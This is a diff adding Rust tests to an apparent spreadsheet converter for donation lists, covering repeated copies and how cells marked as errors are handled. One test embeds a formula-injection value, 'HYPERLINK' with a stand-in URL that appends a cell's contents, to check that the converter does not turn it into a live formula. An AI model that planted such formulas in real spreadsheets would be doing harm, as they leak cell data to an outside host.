@@ -162,6 +162,68 @@ fn a_json_list_becomes_a_sheet_with_its_doubts_in_their_cells() {
 }
 
 #[test]
+fn a_copy_of_a_copy_knows_what_was_put_right_before() {
+    let list = "日期,捐赠人,金额（元）\n2024.4.2,某公司,壹佰元整\n";
+    let first = copy(list.as_bytes(), "gifts.csv");
+    let second = copy(&first.bytes, "copy.xlsx");
+    let book = source::read(&second.bytes, "again.xlsx", &Limits::default()).unwrap();
+    let logs = book
+        .sheets
+        .iter()
+        .filter(|sheet| sheet.name().starts_with("修改记录"));
+    let mut rows: Vec<usize> = logs.map(|sheet| sheet.rows().count()).collect();
+    rows.sort_unstable();
+    assert_eq!(rows, [1, first.repairs.len() + 1]);
+    assert_eq!(read(&second.bytes, "again.xlsx").tables.len(), 1);
+}
+
+#[test]
+fn what_a_file_calls_an_error_does_not_become_a_formula() {
+    let cell = |kind: &str, text: &str| {
+        format!("<table:table-cell {kind}><text:p>{text}</text:p></table:table-cell>")
+    };
+    let error = "office:value-type=\"string\" calcext:value-type=\"error\"";
+    let rows = [
+        [cell("", "捐赠人"), cell("", "金额（元）"), cell("", "备注")],
+        [
+            cell("", "某公司"),
+            cell("", "100"),
+            cell(error, "HYPERLINK(&quot;http://x/&quot;&amp;B2)"),
+        ],
+        [cell("", "某厂"), cell("", "200"), cell(error, "#DIV/0!")],
+    ];
+    let rows = rows.map(|cells| format!("<table:table-row>{}</table:table-row>", cells.concat()));
+    let content = format!(
+        "<?xml version=\"1.0\"?><office:document-content \
+         xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" \
+         xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" \
+         xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" \
+         xmlns:calcext=\"urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0\">\
+         <office:body><office:spreadsheet><table:table table:name=\"a\">{}</table:table>\
+         </office:spreadsheet></office:body></office:document-content>",
+        rows.concat()
+    );
+    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let stored = zip::write::SimpleFileOptions::default();
+    for (name, text) in [
+        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
+        ("content.xml", &content),
+    ] {
+        writer.start_file(name, stored).unwrap();
+        std::io::Write::write_all(&mut writer, text.as_bytes()).unwrap();
+    }
+    let bytes = writer.finish().unwrap().into_inner();
+    let copied = copy(&bytes, "list.ods");
+    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(&copied.bytes)).unwrap();
+    let mut sheet = String::new();
+    let mut file = archive.by_name("xl/worksheets/sheet1.xml").unwrap();
+    std::io::Read::read_to_string(&mut file, &mut sheet).unwrap();
+    let formulas: Vec<&str> = sheet.split("<f>").skip(1).collect();
+    assert_eq!(formulas.len(), 1, "{sheet}");
+    assert!(formulas[0].starts_with("#DIV/0!"));
+}
+
+#[test]
 fn a_file_that_is_no_table_or_too_large_for_a_copy_is_refused() {
     let refused = |text: &str| {
         let (mapping, limits) = (Mapping::default(), Limits::default());
